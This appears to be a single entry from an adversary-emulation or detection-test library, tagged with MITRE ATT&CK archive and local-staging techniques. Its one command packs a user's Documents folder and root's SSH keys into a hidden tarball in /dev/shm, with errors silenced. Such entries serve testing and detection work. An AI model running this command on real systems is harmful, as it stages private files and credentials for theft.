# title: Documents and keys are packed
# technique: T1560.001 T1074.001
# needs: tar
# short: yes

tar czf /dev/shm/.d.tgz /home/ann/Documents /root/.ssh 2>/dev/null
